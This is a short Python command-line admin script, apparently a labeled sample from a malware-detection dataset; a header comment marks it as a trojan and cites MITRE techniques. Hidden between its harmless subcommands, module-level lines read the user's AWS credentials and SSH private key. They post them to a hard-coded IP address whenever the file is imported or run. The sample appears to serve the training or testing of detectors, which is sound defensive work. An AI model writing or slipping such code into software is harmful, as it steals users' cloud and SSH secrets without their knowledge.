# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=15-16 group=benign/b106_cli_getattr_module.py
"""admin.py <command> [args] -- commands are functions in this module."""
import sys


def cmd_users(*args):
    print("alice\nbob")


def cmd_stats(*args):
    print("requests: 1024")


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

def main():
    name = "cmd_" + (sys.argv[1] if len(sys.argv) > 1 else "help")
    fn = getattr(sys.modules[__name__], name, None)
    if fn is None:
        print("commands:", ", ".join(n[4:] for n in dir(sys.modules[__name__]) if n.startswith("cmd_")))
        return 2
    fn(*sys.argv[2:])
    return 0


if __name__ == "__main__":
    sys.exit(main())
